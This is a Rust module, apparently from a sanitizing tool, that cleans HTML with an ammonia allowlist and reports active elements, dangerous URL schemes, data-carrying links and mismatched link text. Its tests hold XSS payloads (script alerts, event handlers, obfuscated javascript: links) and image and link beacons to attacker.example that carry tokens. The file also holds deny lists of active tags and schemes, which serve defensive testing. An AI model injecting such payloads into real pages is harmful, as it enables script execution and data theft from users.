//! HTML cleaning for result text: whole `text/html` documents, HTML blocks and inline tags
//! found in markdown. Used by [`super::markup::sanitize_markup`]; nothing here is public.
//!
//! Parsing and serialization are [`ammonia`]'s (html5ever, the HTML Living Standard tree
//! builder), under a strict allowlist following the OWASP XSS Prevention Cheat Sheet:
//! text-level and structural elements only (`ALLOWED_TAGS`), `a` with `href`/`title`,
//! table cells with `colspan`/`rowspan`, `title` and `lang` everywhere, URL schemes
//! `http`, `https` and `mailto` only, `rel="noopener noreferrer"` on links, comments
//! dropped. No script, style, frame, object, embed, form control, SVG, `MathML` or image,
//! no event handler and no `style` attribute survives.
//!
//! To report *what* was removed, a second, permissive "probe" builder parses the same
//! input and records every element and attribute it sees (through ammonia's
//! `attribute_filter` hook and a per-thread collector): event handlers, active elements,
//! images (turned into `[image: ALT (HOST)]` markers by the markdown sanitizer) and
//! dangerous or data-carrying URLs. Links whose `href` carries data to an untrusted host
//! lose their `href` in the strict pass.
//!
//! Before either builder sees it, the HTML is bounded by [`guard::bound`] (markup past the
//! point where html5ever's tree construction would stop being linear is escaped as text),
//! and links whose visible text shows another site than their `href` (found in the tree
//! the guard built) are replaced by `TEXT (link target: URL)`.

use super::markup::{self, ContentPolicy, Findings, Target, guard};
use crate::finding::Code;
use ammonia::Builder;
use html5ever::serialize::{SerializeOpts, TraversalScope};
use html5ever::tendril::StrTendril;
use markup5ever_rcdom::{Handle, Node, NodeData, RcDom, SerializableHandle};
use std::borrow::Cow;
use std::cell::RefCell;
use std::collections::{HashMap, HashSet};
use std::rc::Rc;
use std::sync::LazyLock;

/// Elements that survive cleaning (HTML Living Standard §4.3–4.5, §4.9 tables).
const ALLOWED_TAGS: &[&str] = &[
    "a",
    "abbr",
    "b",
    "bdi",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "var",
    "wbr",
];

/// Elements that run code, load resources, embed other documents, collect input or
/// change the page outside their box. Their presence is reported (`html_sanitized`,
/// images as `external_image`); none is ever kept.
pub(super) const ACTIVE_TAGS: &[&str] = &[
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "param",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "option",
    "optgroup",
    "datalist",
    "output",
    "keygen",
    "svg",
    "math",
    "img",
    "image",
    "picture",
    "source",
    "video",
    "audio",
    "track",
    "canvas",
    "map",
    "area",
    "link",
    "meta",
    "base",
    "noscript",
    "noembed",
    "noframes",
    "template",
    "portal",
    "fencedframe",
    "dialog",
    "slot",
    "xmp",
    "plaintext",
    "listing",
    "marquee",
];

/// Active elements removed together with their content (their content is code, styles
/// or fallback for an embedded document, not text meant for the reader).
const CLEAN_CONTENT_TAGS: &[&str] = &[
    "script", "style", "template", "iframe", "frame", "frameset", "object", "embed", "applet",
    "noscript", "noembed", "noframes", "svg", "math",
];

/// Attributes allowed on every element.
const GENERIC_ATTRIBUTES: &[&str] = &["title", "lang"];

/// Attributes allowed on specific elements.
const TAG_ATTRIBUTES: &[(&str, &[&str])] = &[
    ("a", &["href"]),
    ("td", &["colspan", "rowspan"]),
    ("th", &["colspan", "rowspan"]),
    ("col", &["span"]),
    ("colgroup", &["span"]),
    ("ol", &["start", "reversed"]),
];

/// URL schemes allowed in `href`.
const URL_SCHEMES: &[&str] = &["http", "https", "mailto"];

/// Schemes the probe lets through so that their use can be reported.
const PROBE_SCHEMES: &[&str] = &[
    "http",
    "https",
    "mailto",
    "javascript",
    "vbscript",
    "livescript",
    "data",
    "file",
    "ftp",
    "ftps",
    "blob",
    "filesystem",
    "jar",
    "about",
    "view-source",
    "tel",
    "sms",
    "smb",
    "ms-msdt",
    "search-ms",
    "ms-settings",
    "vscode",
    "cursor",
    "intent",
    "chrome",
    "res",
];

/// Attributes holding a URL (HTML Living Standard attribute index).
pub(super) const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "xlink:href",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
    "ping",
    "cite",
    "codebase",
    "longdesc",
    "lowsrc",
    "dynsrc",
    "manifest",
    "icon",
];

/// Attributes that are active in themselves (CSS, inline documents, form targets).
pub(super) const ACTIVE_ATTRIBUTES: &[&str] =
    &["style", "srcdoc", "formaction", "action", "http-equiv"];

/// Pseudo-attribute the probe appends to every element, so the collector can tell where
/// one element's attributes end.
const END_MARK: &str = "data-bastion-end";

thread_local! {
    /// `(element, attribute, value)` triples seen by the probe during one `probe` call.
    static RECORDS: RefCell<Vec<(String, String, String)>> = const { RefCell::new(Vec::new()) };
    /// `href` values the strict builder drops during one call (data-carrying links).
    static DROP_HREFS: RefCell<Vec<String>> = const { RefCell::new(Vec::new()) };
}

fn set(items: &[&'static str]) -> HashSet<&'static str> {
    items.iter().copied().collect()
}

fn strict_builder(strip_comments: bool) -> Builder<'static> {
    let mut b = Builder::empty();
    b.tags(set(ALLOWED_TAGS))
        .clean_content_tags(set(CLEAN_CONTENT_TAGS))
        .tag_attributes(TAG_ATTRIBUTES.iter().map(|(t, a)| (*t, set(a))).collect())
        .tag_attribute_values(HashMap::new())
        .generic_attributes(set(GENERIC_ATTRIBUTES))
        .url_schemes(set(URL_SCHEMES))
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(strip_comments)
        .attribute_filter(|element, attribute, value| {
            let drop = element == "a"
                && attribute == "href"
                && DROP_HREFS.with_borrow(|drops| drops.iter().any(|d| d == value));
            (!drop).then_some(Cow::Borrowed(value))
        });
    b
}

/// The allowlist that produces the output.
static STRICT: LazyLock<Builder<'static>> = LazyLock::new(|| strict_builder(true));

/// [`STRICT`] with comments kept: the difference tells whether comments were removed.
static STRICT_WITH_COMMENTS: LazyLock<Builder<'static>> = LazyLock::new(|| strict_builder(false));

/// Keeps every element of [`ALLOWED_TAGS`] and [`ACTIVE_TAGS`] with all attributes and
/// records them; its output is discarded.
static PROBE: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut tags = set(ALLOWED_TAGS);
    tags.extend(ACTIVE_TAGS.iter().copied());
    let marks = tags
        .iter()
        .map(|t| (*t, HashMap::from([(END_MARK, "")])))
        .collect();
    let mut b = Builder::empty();
    b.tags(tags)
        .clean_content_tags(HashSet::new())
        .tag_attributes(HashMap::new())
        .tag_attribute_values(HashMap::new())
        .set_tag_attribute_values(marks)
        .generic_attributes(HashSet::new())
        .generic_attribute_prefixes(set(&[""]))
        .url_schemes(set(PROBE_SCHEMES))
        .link_rel(None)
        .strip_comments(true)
        .attribute_filter(|element, attribute, value| {
            RECORDS.with_borrow_mut(|r| {
                r.push((element.to_owned(), attribute.to_owned(), value.to_owned()));
            });
            Some(Cow::Borrowed(value))
        });
    b
});

/// One element seen by the probe.
#[derive(Debug, Default)]
struct Element {
    name: String,
    attrs: Vec<(String, String)>,
}

impl Element {
    fn attr(&self, name: &str) -> Option<&str> {
        self.attrs
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }
}

/// Parses `html` with the probe and returns the elements it kept, in document order.
fn probe(html: &str) -> Vec<Element> {
    RECORDS.with_borrow_mut(Vec::clear);
    drop(PROBE.clean(html));
    let records = RECORDS.with_borrow_mut(std::mem::take);
    let mut elements = Vec::new();
    let mut current = Element::default();
    for (element, attribute, value) in records {
        if attribute == END_MARK {
            current.name = element;
            elements.push(std::mem::take(&mut current));
        } else {
            current.attrs.push((attribute, value));
        }
    }
    elements
}

/// Runs `f` with the strict builders dropping the given `href` values.
fn with_drops<T>(drops: &[String], f: impl FnOnce() -> T) -> T {
    DROP_HREFS.with_borrow_mut(|d| d.clone_from(&drops.to_vec()));
    let out = f();
    DROP_HREFS.with_borrow_mut(Vec::clear);
    out
}

/// What the probe found, and the findings it implies.
#[derive(Debug, Default)]
struct Analysis {
    /// Plain-text markers for removed images, in document order.
    images: Vec<String>,
    /// `href` values to drop (data-carrying links to untrusted hosts).
    drop_hrefs: Vec<String>,
    /// Anything the strict pass removes or changes (attributes included).
    removes_something: bool,
    /// Whether any real attribute was seen.
    saw_attributes: bool,
    /// Findings to report if the text is rewritten.
    findings: Vec<(Code, String)>,
}

fn analyze(elements: &[Element], policy: &ContentPolicy) -> Analysis {
    let mut a = Analysis::default();
    let mut active: Vec<String> = Vec::new();
    let note = |list: &mut Vec<String>, item: String| {
        if !list.contains(&item) {
            list.push(item);
        }
    };
    for el in elements {
        let allowed_tag = ALLOWED_TAGS.contains(&el.name.as_str());
        a.saw_attributes |= !el.attrs.is_empty();
        if el.name == "img" || el.name == "image" {
            a.removes_something = true;
            let alt = el.attr("alt").unwrap_or_default();
            let src = el
                .attr("src")
                .or_else(|| el.attr("srcset").and_then(|s| s.split_whitespace().next()));
            match src.map(markup::classify) {
                Some(Target::Web(url)) => {
                    let host = url.host_str().unwrap_or_default().to_owned();
                    a.findings.push((
                        Code::ExternalImage,
                        format!("an HTML <img> from {host} would load automatically and could leak data in its URL; it was replaced by text"),
                    ));
                    a.images.push(markup::image_marker(alt, Some(&host)));
                }
                Some(Target::Disallowed(scheme)) => {
                    a.findings.push((
                        Code::DangerousUrlScheme,
                        format!("an HTML <img> used a {scheme}: source; it was removed"),
                    ));
                    a.images.push(markup::image_marker(alt, None));
                }
                Some(two @ Target::TwoReadings { .. }) => {
                    a.findings.push((
                        Code::UrlInvalidCharacter,
                        format!(
                            "an HTML <img> loading from {} depending on who reads it was removed",
                            two.hosts()
                        ),
                    ));
                    a.images.push(markup::image_marker(alt, None));
                }
                _ => a.images.push(markup::image_marker(alt, None)),
            }
        } else if !allowed_tag {
            a.removes_something = true;
            if ACTIVE_TAGS.contains(&el.name.as_str()) {
                note(&mut active, format!("<{}>", el.name));
            }
        }
        for (attr, value) in &el.attrs {
            let allowed_attr = GENERIC_ATTRIBUTES.contains(&attr.as_str())
                || TAG_ATTRIBUTES
                    .iter()
                    .any(|(t, list)| *t == el.name && list.contains(&attr.as_str()));
            if !allowed_attr {
                a.removes_something = true;
            }
            if attr.starts_with("on") || ACTIVE_ATTRIBUTES.contains(&attr.as_str()) {
                note(&mut active, format!("{attr}="));
            }
            if !URL_ATTRIBUTES.contains(&attr.as_str()) {
                continue;
            }
            match markup::classify(value) {
                Target::Disallowed(scheme) => {
                    a.removes_something = true;
                    a.findings.push((
                        Code::DangerousUrlScheme,
                        format!(
                            "an HTML {attr} attribute used the {scheme}: scheme; it was removed"
                        ),
                    ));
                }
                two @ Target::TwoReadings { .. } => {
                    a.removes_something = true;
                    a.drop_hrefs.push(value.clone());
                    a.findings.push((
                        Code::UrlInvalidCharacter,
                        format!(
                            "an HTML {attr} attribute reaching {} depending on who reads it was removed",
                            two.hosts()
                        ),
                    ));
                }
                Target::Web(url) if el.name == "a" && attr == "href" && allowed_tag => {
                    let host = url.host_str().unwrap_or_default();
                    let carriers = markup::data_carriers(&url);
                    if !policy.is_trusted(host) && !carriers.is_empty() {
                        a.removes_something = true;
                        a.drop_hrefs.push(value.clone());
                        a.findings.push((
                            Code::LinkExfiltration,
                            format!(
                                "an HTML link to {host} carried data ({}); its href was removed",
                                carriers.join(", ")
                            ),
                        ));
                    }
                }
                _ => {}
            }
        }
    }
    if !active.is_empty() {
        a.findings.push((
            Code::HtmlSanitized,
            format!("active HTML was removed: {}", active.join(", ")),
        ));
    }
    a
}

/// HTML cleaned by the strict allowlist, with markers for the images it removed.
#[derive(Debug)]
pub(crate) struct Cleaned {
    /// The strict serialization.
    pub(crate) html: String,
    /// Plain-text `[image: …]` markers for removed images, in document order.
    pub(crate) image_markers: Vec<String>,
}

/// Cleans an HTML document or block. `None` when the strict serialization equals the
/// input (nothing to do); findings are reported only when the text changes.
///
/// The input is first bounded ([`guard::bound`]): markup past the point where parsing
/// would stop being linear is escaped as text. Links whose visible text shows another
/// site than their `href` are then replaced by their text and real target.
pub(crate) fn clean(
    html: &str,
    policy: &ContentPolicy,
    findings: &mut Findings<'_>,
) -> Option<Cleaned> {
    let bounded = guard::bound(html, guard::Mode::Enforce);
    let mut notes: Vec<(Code, String)> = Vec::new();
    let mut source = Cow::Borrowed(html);
    if let Some(at) = bounded.cut {
        let escaped = format!("{}{}", &html[..at], escape_markup(&html[at..]));
        if escaped != html {
            notes.push((
                Code::HtmlSanitized,
                format!(
                    "HTML could not be sanitized in linear time ({}); the markup from byte {at} on was escaped as text",
                    bounded.reason
                ),
            ));
            source = Cow::Owned(escaped);
        }
    }
    // Links are looked at in the tree the guard built. After a cut that tree ends at the
    // cut (the escaped rest holds no link), so it is only rebuilt when a link is replaced.
    let mut dom = bounded.dom;
    if bounded.cut.is_some() && unmask_links(&dom, &mut Vec::new()).is_some() {
        dom = guard::bound(&source, guard::Mode::Enforce).dom;
    }
    if let Some(rewritten) = unmask_links(&dom, &mut notes) {
        // The serialization of a bounded tree; bounded again all the same.
        source = match guard::bound(&rewritten, guard::Mode::Enforce).cut {
            Some(at) => Cow::Owned(format!(
                "{}{}",
                &rewritten[..at],
                escape_markup(&rewritten[at..])
            )),
            None => Cow::Owned(rewritten),
        };
    }
    let analysis = analyze(&probe(&source), policy);
    let cleaned = with_drops(&analysis.drop_hrefs, || STRICT.clean(&source).to_string());
    if cleaned == html {
        return None;
    }
    if source.contains("<!--") {
        let with_comments = with_drops(&analysis.drop_hrefs, || {
            STRICT_WITH_COMMENTS.clean(&source).to_string()
        });
        if with_comments != cleaned {
            findings.push(
                Code::HiddenComment,
                "an HTML comment inside HTML markup (hidden from the rendered view) was removed"
                    .to_owned(),
            );
        }
    }
    for (code, message) in notes.into_iter().chain(analysis.findings) {
        findings.push(code, message);
    }
    Some(Cleaned {
        html: cleaned,
        image_markers: analysis.images,
    })
}

/// Replaces every `<a href>` of `dom` whose visible text shows another site than its
/// target (see [`markup::mismatched_hosts`]) by a text node `TEXT (link target: URL)`,
/// and returns the serialization of the fragment; `None` when no link was replaced.
/// One walk over the tree: each text node counts for its nearest enclosing link.
fn unmask_links(dom: &RcDom, notes: &mut Vec<(Code, String)>) -> Option<String> {
    let root = guard::fragment_root(dom)?;
    // (link node, href, visible text) for every link with an http(s) target.
    let mut links: Vec<(Handle, url::Url, String)> = Vec::new();
    // Depth-first walk; `Some(i)` entries mark the end of link `i`'s subtree.
    let mut stack: Vec<(Handle, Option<usize>)> = vec![(root, None)];
    let mut open: Vec<usize> = Vec::new();
    while let Some((node, closes)) = stack.pop() {
        if let Some(i) = closes {
            if open.last() == Some(&i) {
                open.pop();
            }
            continue;
        }
        match &node.data {
            NodeData::Text { contents } => {
                if let Some(&i) = open.last() {
                    let text = &mut links[i].2;
                    if text.len() < MAX_LINK_TEXT {
                        text.push_str(&contents.borrow());
                    }
                }
            }
            NodeData::Element { name, attrs, .. } => {
                let mut marker = None;
                if &*name.local == "a" && name.ns == html5ever::ns!(html) {
                    let href = attrs
                        .borrow()
                        .iter()
                        .find(|a| &*a.name.local == "href")
                        .map(|a| a.value.to_string());
                    if let Some(markup::Target::Web(url)) = href.as_deref().map(markup::classify) {
                        links.push((node.clone(), url, String::new()));
                        open.push(links.len() - 1);
                        marker = Some(links.len() - 1);
                    }
                }
                if let Some(i) = marker {
                    stack.push((node.clone(), Some(i)));
                }
                for child in node.children.borrow().iter().rev() {
                    stack.push((child.clone(), None));
                }
            }
            _ => {}
        }
    }
    let mut changed = false;
    for (node, url, text) in links {
        let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
        let shown = markup::mismatched_hosts(&text, &url);
        if shown.is_empty() {
            continue;
        }
        let host = url.host_str().unwrap_or_default();
        notes.push((
            Code::LinkTextMismatch,
            format!(
                "an HTML link's text shows {} but it leads to {host}; it was made inert and its real target is shown",
                shown.join(", ")
            ),
        ));
        let replacement = Node::new(NodeData::Text {
            contents: std::cell::RefCell::new(StrTendril::from(format!(
                "{text} (link target: {})",
                markup::display_url(&url)
            ))),
        });
        if let Some(parent) = node.parent.take().and_then(|w| w.upgrade()) {
            let mut children = parent.children.borrow_mut();
            if let Some(i) = children.iter().position(|c| Rc::ptr_eq(c, &node)) {
                replacement.parent.set(Some(Rc::downgrade(&parent)));
                children[i] = replacement;
                changed = true;
            }
        }
    }
    if !changed {
        return None;
    }
    let root = guard::fragment_root(dom)?;
    let mut out = Vec::new();
    let opts = SerializeOpts {
        traversal_scope: TraversalScope::ChildrenOnly(None),
        ..SerializeOpts::default()
    };
    html5ever::serialize(&mut out, &SerializableHandle::from(root), opts).ok()?;
    String::from_utf8(out).ok()
}

/// HTML source shown as text: every `<` (the only character that opens markup in text)
/// becomes a numeric character reference; the rest is left for the parser to read as text.
fn escape_markup(html: &str) -> String {
    html.replace('<', "&#60;")
}

/// Visible text of a link kept for the comparison with its target.
const MAX_LINK_TEXT: usize = 2048;

/// The `text/html` path of [`markup::sanitize_markup`]: the strict serialization when it
/// differs from `text`.
pub(crate) fn sanitize_document(
    text: &str,
    policy: &ContentPolicy,
    findings: &mut Findings<'_>,
) -> Option<String> {
    clean(text, policy, findings).map(|c| c.html)
}

/// Replacement for one inline raw-HTML tag of markdown.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct InlineTag {
    /// Markdown source to put in place of the tag (markers escaped, cleaned tag).
    pub(crate) source: String,
    /// The replacement as plain text (markers), for link and image texts around it.
    pub(crate) plain: String,
}

/// The element name of a `CommonMark` raw-HTML open or closing tag (§6.6: an ASCII
/// letter followed by letters, digits and hyphens), lowercase.
fn tag_name(tag: &str) -> String {
    tag.trim_start_matches('<')
        .trim_start_matches('/')
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric() || *c == '-')
        .collect::<String>()
        .to_ascii_lowercase()
}

/// Decides what to do with one inline raw-HTML tag (an open or closing tag as reported
/// by the markdown parser; comments, declarations and processing instructions are
/// handled by the caller). `None` keeps the tag byte-identical.
///
/// Open tags of allowed elements are kept when all their attributes are allowed and
/// safe (checked in a table-cell context, so that table elements are seen too);
/// otherwise they are replaced by the strict serialization of the open tag. Active
/// elements are removed (images leave a marker). Unknown elements are kept when they
/// carry no attribute value (`Option<String>` in prose), removed otherwise. Closing tags
/// are removed only for active elements.
pub(crate) fn sanitize_tag(
    tag: &str,
    policy: &ContentPolicy,
    findings: &mut Findings<'_>,
) -> Option<InlineTag> {
    let name = tag_name(tag);
    let allowed = ALLOWED_TAGS.contains(&name.as_str());
    let active = ACTIVE_TAGS.contains(&name.as_str());
    if tag.starts_with("</") {
        return active.then(|| InlineTag {
            source: String::new(),
            plain: String::new(),
        });
    }
    let valued = tag.contains('=');
    if !valued && !active {
        return None;
    }
    if guard::too_many_attributes(tag) {
        // html5ever compares each attribute name with every earlier one: such a tag is
        // shown as text instead of being parsed.
        findings.push(
            Code::HtmlSanitized,
            format!("an HTML <{name}> tag with too many attributes was shown as text"),
        );
        let plain = tag.split_whitespace().collect::<Vec<_>>().join(" ");
        return Some(InlineTag {
            source: markup::escape_inline(tag),
            plain,
        });
    }
    let analysis = analyze(&probe(&format!("<table><tr><td>{tag}")), policy);
    if allowed && !analysis.removes_something && analysis.saw_attributes {
        return None;
    }
    let open = if allowed {
        let out = with_drops(&analysis.drop_hrefs, || STRICT.clean(tag).to_string());
        match out.strip_suffix(&format!("</{name}>")) {
            Some(open) => open.to_owned(),
            None => out,
        }
    } else {
        String::new()
    };
    if !allowed && !active {
        findings.push(
            Code::HtmlSanitized,
            format!("an unknown HTML element <{name}> with attributes was removed"),
        );
    }
    for (code, message) in analysis.findings {
        findings.push(code, message);
    }
    let plain = analysis.images.join(" ");
    let mut source = analysis
        .images
        .iter()
        .map(|m| markup::escape_inline(m))
        .collect::<Vec<_>>()
        .join(" ");
    source.push_str(&open);
    Some(InlineTag { source, plain })
}

/// The `href` of an inline `<a …>` open tag, as the HTML tokenizer reads it.
pub(crate) fn link_href(tag: &str) -> Option<String> {
    if tag_name(tag) != "a" || tag.starts_with("</") {
        return None;
    }
    let (_, tag) = guard::first_tag(tag, tag.len());
    tag?.attrs
        .iter()
        .find(|a| &*a.name.local == "href")
        .map(|a| a.value.to_string())
}

/// For text that starts with `<img` or `<image`: the length of the tag as the HTML
/// tokenizer reads it (at most `max_len` bytes) and whether its source is external (an
/// `http(s)` host not trusted) or uses another scheme than `http(s)` — an image a lenient
/// renderer would load. Returns the bytes read even when the answer is no: any other
/// `<img` in them is part of the same construct.
pub(crate) fn loading_image(text: &str, policy: &ContentPolicy, max_len: usize) -> (usize, bool) {
    let (read, tag) = guard::first_tag(text, max_len);
    let Some(tag) = tag else {
        return (read, false);
    };
    if !matches!(&*tag.name, "img" | "image") || tag.kind != html5ever::tokenizer::TagKind::StartTag
    {
        return (read, false);
    }
    let src = tag
        .attrs
        .iter()
        .find(|a| &*a.name.local == "src")
        .map(|a| a.value.to_string())
        .or_else(|| {
            tag.attrs
                .iter()
                .find(|a| &*a.name.local == "srcset")
                .and_then(|a| a.value.split_whitespace().next().map(str::to_owned))
        });
    let loads = match src.as_deref().map(markup::classify) {
        Some(Target::Web(url)) => !policy.is_trusted(url.host_str().unwrap_or_default()),
        Some(Target::Disallowed(_) | Target::Mailto | Target::TwoReadings { .. }) => true,
        _ => false,
    };
    (read, loads)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy() -> ContentPolicy {
        ContentPolicy {
            trusted_domains: vec!["trusted.example".into()],
            ..ContentPolicy::default()
        }
    }

    fn run_clean(html: &str) -> (Option<String>, Vec<Code>) {
        let mut f = Findings::new("/t");
        let out = clean(html, &policy(), &mut f).map(|c| c.html);
        (out, f.into_vec().into_iter().map(|f| f.code).collect())
    }

    #[test]
    fn clean_documents_table() {
        // (input, expected output or None for unchanged, expected codes)
        let cases: &[(&str, Option<&str>, &[Code])] = &[
            ("<p>plain <b>bold</b></p>", None, &[]),
            ("<p>a &amp; b</p>", None, &[]),
            (
                "<script>alert(1)</script><p>x</p>",
                Some("<p>x</p>"),
                &[Code::HtmlSanitized],
            ),
            (
                "<b onmouseover=\"alert(1)\">hover me</b>",
                Some("<b>hover me</b>"),
                &[Code::HtmlSanitized],
            ),
            (
                "<iframe src=\"https://a.example/\"></iframe>ok",
                Some("ok"),
                &[Code::HtmlSanitized],
            ),
            (
                "<svg onload=alert(2)><text>t</text></svg>ok",
                Some("ok"),
                &[Code::HtmlSanitized],
            ),
            (
                "<p style=\"position:fixed\">x</p>",
                Some("<p>x</p>"),
                &[Code::HtmlSanitized],
            ),
            (
                "<form action=\"https://a.example\"><input name=p></form>",
                Some(""),
                &[Code::HtmlSanitized],
            ),
            (
                "<a href=\"javascript:alert(1)\">x</a>",
                Some("<a rel=\"noopener noreferrer\">x</a>"),
                &[Code::DangerousUrlScheme],
            ),
            (
                "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
                Some("<a rel=\"noopener noreferrer\">x</a>"),
                &[Code::DangerousUrlScheme],
            ),
            (
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                Some("<a rel=\"noopener noreferrer\">x</a>"),
                &[Code::DangerousUrlScheme],
            ),
            (
                "<a href=\"https://docs.example.com/guide\">g</a>",
                Some(
                    "<a href=\"https://docs.example.com/guide\" rel=\"noopener noreferrer\">g</a>",
                ),
                &[],
            ),
            (
                "<a href=\"https://attacker.example/?token=abcd\">g</a>",
                Some("<a rel=\"noopener noreferrer\">g</a>"),
                &[Code::LinkExfiltration],
            ),
            (
                "<a href=\"https://trusted.example/?token=abcd\">g</a>",
                Some(
                    "<a href=\"https://trusted.example/?token=abcd\" rel=\"noopener noreferrer\">g</a>",
                ),
                &[],
            ),
            (
                "<img src=\"https://attacker.example/t.gif?leak=1\">",
                Some(""),
                &[Code::ExternalImage],
            ),
            (
                "<img src=\"data:image/png;base64,AAAA\">",
                Some(""),
                &[Code::DangerousUrlScheme],
            ),
            (
                "<p>x<!-- hidden --></p>",
                Some("<p>x</p>"),
                &[Code::HiddenComment],
            ),
            ("<p class=\"c\">x</p>", Some("<p>x</p>"), &[]),
            (
                "<p>Sign in at <a href=\"https://attacker.example/login\">https://docs.example.com/login</a>.</p>",
                Some(
                    "<p>Sign in at https://docs.example.com/login (link target: https://attacker.example/login).</p>",
                ),
                &[Code::LinkTextMismatch],
            ),
            (
                "<ul><li><a href=\"https://docs.xn--exmple-4nf.com/\"><b>docs.example.com</b></a></li></ul>",
                Some(
                    "<ul><li>docs.example.com (link target: https://docs.xn--exmple-4nf.com/)</li></ul>",
                ),
                &[Code::LinkTextMismatch],
            ),
            (
                "<a href=\"https://www.example.com/guide\">docs.example.com/guide</a>",
                Some(
                    "<a href=\"https://www.example.com/guide\" rel=\"noopener noreferrer\">docs.example.com/guide</a>",
                ),
                &[],
            ),
        ];
        for (input, expected, codes) in cases {
            let (out, found) = run_clean(input);
            assert_eq!(out.as_deref(), *expected, "output for {input:?}");
            for code in *codes {
                assert!(
                    found.contains(code),
                    "{code} missing for {input:?}: {found:?}"
                );
            }
            if codes.is_empty() {
                assert!(
                    found.is_empty(),
                    "unexpected findings for {input:?}: {found:?}"
                );
            }
        }
    }

    #[test]
    fn deep_nesting_is_escaped_past_the_limit() {
        let html = format!("<p>{}x", "<div>".repeat(200));
        let (out, codes) = run_clean(&html);
        let out = out.unwrap();
        assert_eq!(codes, [Code::HtmlSanitized]);
        assert!(out.contains("&lt;div&gt;"));
        assert!(out.matches("<div>").count() <= guard::MAX_DEPTH);
        let (again, codes) = run_clean(&out);
        assert!(again.is_none() && codes.is_empty(), "not settled");
    }

    fn run_tag(tag: &str) -> (Option<String>, Vec<Code>) {
        let mut f = Findings::new("/t");
        let out = sanitize_tag(tag, &policy(), &mut f).map(|t| t.source);
        (out, f.into_vec().into_iter().map(|f| f.code).collect())
    }

    #[test]
    fn inline_tags_table() {
        let cases: &[(&str, Option<&str>, &[Code])] = &[
            ("<b>", None, &[]),
            ("</b>", None, &[]),
            ("<String>", None, &[]),
            ("<T>", None, &[]),
            ("<dyn Fn>", None, &[]),
            ("</String>", None, &[]),
            ("<a href=\"https://docs.example.com/\">", None, &[]),
            ("<td colspan=\"2\">", None, &[]),
            (
                "<b onmouseover=\"alert(1)\">",
                Some("<b>"),
                &[Code::HtmlSanitized],
            ),
            (
                "<td onclick=\"alert(1)\">",
                Some(""),
                &[Code::HtmlSanitized],
            ),
            ("<tr onclick=alert(1)>", Some(""), &[Code::HtmlSanitized]),
            ("<svg onload=alert(2)>", Some(""), &[Code::HtmlSanitized]),
            ("</svg>", Some(""), &[]),
            ("<script>", Some(""), &[Code::HtmlSanitized]),
            ("</script>", Some(""), &[]),
            ("<foo onclick=\"x\">", Some(""), &[Code::HtmlSanitized]),
            ("<body onload=\"x\">", Some(""), &[Code::HtmlSanitized]),
            (
                "<img src=\"https://attacker.example/t.gif?leak=1\" alt=\"t\">",
                Some("\\[image: t (attacker.example)\\]"),
                &[Code::ExternalImage],
            ),
            (
                "<img src=x onerror=\"y\">",
                Some("\\[image\\]"),
                &[Code::HtmlSanitized],
            ),
            (
                "<a href=\"javascript:alert(1)\">",
                Some("<a rel=\"noopener noreferrer\">"),
                &[Code::DangerousUrlScheme],
            ),
        ];
        let bomb = guard::tests::numbered(4000, " x", "");
        let (out, found) = run_tag(&format!("<b title=t{bomb}>"));
        assert!(out.unwrap().starts_with("&lt;b title=t x0 x1"));
        assert_eq!(found, [Code::HtmlSanitized]);
        for (tag, expected, codes) in cases {
            let (out, found) = run_tag(tag);
            assert_eq!(out.as_deref(), *expected, "replacement for {tag:?}");
            for code in *codes {
                assert!(
                    found.contains(code),
                    "{code} missing for {tag:?}: {found:?}"
                );
            }
            if codes.is_empty() {
                assert!(
                    found.is_empty(),
                    "unexpected findings for {tag:?}: {found:?}"
                );
            }
        }
    }

    #[test]
    fn probe_groups_attributes_per_element() {
        let elements = probe("<img src=a alt=one><img src=b><b onclick=x>t</b>");
        let names: Vec<_> = elements.iter().map(|e| e.name.as_str()).collect();
        assert_eq!(names, ["img", "img", "b"]);
        assert_eq!(elements[0].attr("alt"), Some("one"));
        assert_eq!(elements[1].attr("alt"), None);
        assert_eq!(elements[2].attr("onclick"), Some("x"));
    }
}
